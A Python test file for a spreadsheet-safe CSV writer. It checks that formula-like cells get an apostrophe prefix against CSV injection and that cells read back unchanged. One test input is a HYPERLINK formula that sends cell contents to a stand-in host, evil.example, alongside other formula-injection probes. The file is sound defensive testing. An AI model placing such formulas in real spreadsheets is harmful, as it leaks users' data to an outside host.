"""Spreadsheet-safe CSV cells (OWASP's advice against CSV injection), and reading them back."""
import csv
import io
import re

from hypothesis import given, settings
from hypothesis import strategies as st

from bot.spreadsheet import SafeWriter, restore_cell, safe_cell


def written(*rows) -> str:
    """What SafeWriter writes for the rows."""
    out = io.StringIO()
    SafeWriter(out, lineterminator="\n").writerows(rows)
    return out.getvalue()


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_quoted_and_starts_with_an_apostrophe():
    text = written(['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
                    "\tcmd", "\r=1"])
    assert text == ('"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")","\'+1+1","\'-2+3",'
                    '"\'@SUM(A1)","\'\tcmd","\'\r=1"\n')


def test_numbers_plain_text_and_empty_cells_are_kept_as_they_are_and_quoted():
    assert written(["-13.5", "+4", "-100.51000,-13.74100", "ถนนพัง", "", None, 4, 2.5, "-"]) == \
        '"-13.5","+4","-100.51000,-13.74100","ถนนพัง","","","4","2.5","-"\n'


@settings(max_examples=300, derandomize=True, database=None)
@given(st.text())
def test_reading_back_a_written_cell_gives_the_original_text(text):
    cell = next(csv.reader(io.StringIO(written([text]), newline="")))[0] if text else ""
    assert restore_cell(cell) == text
    assert restore_cell(safe_cell(text)) == text


@settings(max_examples=300, derandomize=True, database=None)
@given(st.text(st.sampled_from("=+-@\t\r'0123456789.,xก ")))
def test_no_written_cell_starts_a_formula_only_a_plain_number_starts_with_a_sign(text):
    cell = safe_cell(text)
    assert cell[:1] not in ("=", "@", "\t", "\r")
    if cell[:1] in ("+", "-"):
        assert re.fullmatch(r"-|[+-]?\d+(\.\d+)?(,[+-]?\d+(\.\d+)?)*", cell), cell
